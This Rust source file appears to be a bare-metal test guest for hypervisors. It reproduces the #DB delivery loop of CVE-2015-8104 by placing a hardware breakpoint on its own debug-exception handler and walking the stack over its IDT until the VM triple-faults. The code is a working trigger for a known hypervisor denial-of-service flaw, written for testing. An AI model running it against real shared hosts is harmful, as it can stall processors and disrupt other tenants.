//! `dbloop64`: a #DB delivery loop (the shape of CVE-2015-8104).
//!
//! An instruction breakpoint (DR0, DR7.L0, execute) sits on the first instruction of
//! this guest's own #DB handler, so delivering #DB raises #DB again before the
//! handler runs, and again, with no instruction ever completing. Each #DB pushes its
//! frame below the last; the stack starts at the top of the guest's IDT, so after
//! about 85 rounds the frames overwrite the #DB gate itself, the next delivery fails
//! (#GP/#NP, whose gates are overwritten too, then #DF) and the processor shuts the
//! VM down: a triple fault. Under a hypervisor that intercepts #DB every round is a
//! VM exit (preemptible by the host); one that did not would leave the processor in
//! the loop for as long as the guest arranges.
//!
//! Prints `dbloop64: entering the #DB loop`; the hypervisor then reports the triple
//! fault. An emulator may let the handler run after all (QEMU's TCG sometimes misses
//! the breakpoint, or ends the loop after some rounds): the guest then enters the loop
//! again, with a fresh stack, up to [`ATTEMPTS`] times, printing `dbloop64: the
//! handler ran; entering the loop again`. Where the processor has no instruction
//! breakpoints at all, every attempt runs the handler and the guest ends with
//! `dbloop64: no #DB from the instruction breakpoint`.

#![cfg_attr(target_os = "none", no_std, no_main)]

#[cfg(not(target_os = "none"))]
fn main() {}

#[cfg(target_os = "none")]
mod guest {
    use core::arch::{asm, naked_asm};
    use core::sync::atomic::{AtomicU32, AtomicU64, Ordering};
    use guests::{cpu::halt_forever, idt, println};

    /// The #DB handler: an instruction breakpoint sits on its first instruction.
    #[unsafe(naked)]
    unsafe extern "C" fn dbloop_target() {
        naked_asm!("call {}", sym fallthrough)
    }

    /// Entries into the loop before the guest gives up (see the module header).
    const ATTEMPTS: u32 = 8;

    /// Set once by `main` before the first entry; read by `fallthrough`, which runs on
    /// the same (only) processor.
    static ATTEMPT: AtomicU32 = AtomicU32::new(0);
    static STACK_TOP: AtomicU64 = AtomicU64::new(0);

    extern "C" fn fallthrough() -> ! {
        if ATTEMPT.fetch_add(1, Ordering::Relaxed) + 1 < ATTEMPTS {
            println!("dbloop64: the handler ran; entering the loop again");
            enter_loop(STACK_TOP.load(Ordering::Relaxed));
        }
        println!("dbloop64: no #DB from the instruction breakpoint");
        halt_forever()
    }

    /// Arms the instruction breakpoint on the #DB handler and jumps to it with the
    /// stack at `top`.
    fn enter_loop(top: u64) -> ! {
        let target = dbloop_target as *const () as u64;
        // SAFETY: the loop and the triple fault it ends in are the point of the test;
        // the stack it walks down is this guest's own IDT.
        unsafe {
            asm!(
                "mov dr0, {target}",
                "mov dr7, {dr7}",
                "mov rsp, {top}",
                "jmp {target}",
                target = in(reg) target,
                dr7 = in(reg) 1u64,
                top = in(reg) top,
                options(noreturn)
            )
        }
    }

    #[repr(C, packed)]
    struct DescriptorPointer {
        limit: u16,
        base: u64,
    }

    guests::entry_point!(main);

    fn main() {
        let handlers = idt::install();
        // SAFETY: interrupts are off and no #DB can arrive before DR7 is set below.
        unsafe { handlers.set_interrupt_gate(1, dbloop_target) };
        let mut idtr = DescriptorPointer { limit: 0, base: 0 };
        // SAFETY: SIDT stores 10 bytes into `idtr`.
        unsafe { asm!("sidt [{}]", in(reg) &mut idtr) };
        let top = (idtr.base + u64::from(idtr.limit) + 1) & !0xF;
        STACK_TOP.store(top, Ordering::Relaxed);
        println!("dbloop64: entering the #DB loop");
        enter_loop(top)
    }
}
